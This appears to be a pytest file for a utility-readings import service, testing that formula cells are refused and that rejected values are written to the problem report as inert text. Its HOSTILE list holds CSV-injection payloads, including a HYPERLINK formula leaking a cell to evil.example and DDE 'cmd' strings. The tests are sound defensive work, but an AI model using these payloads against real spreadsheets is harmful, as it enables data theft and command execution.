"""Formulas in and out of imports: the problem report (``/imports/N/report.csv``) writes a rejected
value such as ``=HYPERLINK(…)`` as text, not as a formula Excel would run; an XLSX formula cell is
refused with the row and the column, never imported as the value Excel cached for it (a script
can write any cached value it likes)."""
import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import xlsxwriter
from sqlalchemy import select

from app.models import Reading
from app.services.imports import import_bytes

from .helpers import Town, counts, load, write_csv
from .test_views import Db, _upload

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Натисніть")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.fixture()
def db(app):
    return Db(app)


def test_the_problem_report_writes_rejected_values_as_text(db, client_as):
    town = Town()
    db.load(town, "meters")
    rows = town.rows("readings")
    for row, value in zip(rows, HOSTILE):
        row["value"] = value
    client = client_as("operator")
    record_id = _upload(client, "readings", write_csv(rows))
    response = client.get(f"/imports/{record_id}/report.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert table[0] == ["Рядок", "Стовпець", "Значення", "Причина"]
    values = {r[2] for r in table[1:]}
    assert values >= {"'" + v for v in HOSTILE}, values
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in table[1:] for cell in r)
    assert {r[0] for r in table[1:]} <= {"2", "3", "4", "5"}  # the row numbers stay numbers


def _xlsx_with_formula(rows, column, formula, cached):
    """A workbook as a script or Excel writes it: the formula and its cached value."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    headers = list(rows[0].keys())
    day = book.add_format({"num_format": "dd.mm.yyyy"})
    for col, name in enumerate(headers):
        sheet.write_string(0, col, name)
    for number, row in enumerate(rows, start=1):
        for col, name in enumerate(headers):
            value = row[name]
            if number == 2 and name == column:
                sheet.write_formula(number, col, formula, None, cached)
            elif isinstance(value, date):
                sheet.write_datetime(number, col, value, day)
            elif isinstance(value, Decimal):
                sheet.write_number(number, col, float(value))
            elif value not in ("", None):
                sheet.write_string(number, col, str(value))
    book.close()
    return buffer.getvalue()


@pytest.mark.parametrize(("kind", "column", "cached"), [("readings", "value", 19.5), ("payments", "amount", 99.99)])
def test_a_formula_cell_is_refused_with_its_row_and_column(ctx, kind, column, cached):
    town = Town()
    load(town, kind)
    rows = town.rows(kind)
    before = counts(ctx)
    data = _xlsx_with_formula(rows, column, "=B2*1000", cached)
    _, outcome = import_bytes(kind, data, f"{kind}.xlsx")
    assert not outcome.ok and counts(ctx) == before  # nothing written
    [problem] = [p for p in outcome.problems if p.code == "formula"]
    assert (problem.row, problem.column, problem.value) == (3, column, "=B2*1000")
    assert "формул" in problem.message
    assert problem.line().startswith(f"рядок 3, стовпець {column}"), problem.line()
    assert outcome.rejected == 1


def test_without_the_formula_the_same_file_imports(ctx):
    """The control: the workbook of the test above with the value itself goes in."""
    town = Town()
    load(town, "meters")
    rows = town.rows("readings")
    outcome = import_bytes("readings", _xlsx_with_formula(rows, "none", "", 0), "readings.xlsx")[1]
    assert outcome.ok, outcome.problems
    values = set(ctx.scalars(select(Reading.value).where(Reading.meter.has(serial=rows[1]["serial"]))))
    assert Decimal("19.5") in values


def test_the_formula_scan_sees_every_spelling_of_a_formula_element():
    from app.services.imports.files import FORMULA_TAG

    for xml in (b"<c r='B2'><f>A1*2</f><v>3</v></c>", b'<f t="shared" ref="C2:C9" si="0"/>', b"<x:f>SUM(A:A)</x:f>",
                b"<f\n>A1</f>"):
        assert FORMULA_TAG.search(xml), xml
    for xml in (b"<font><b/></font>", b"<formula1>1</formula1>", b"<c t='s'><v>0</v></c>", b"<is><t>=A1</t></is>"):
        assert not FORMULA_TAG.search(xml), xml
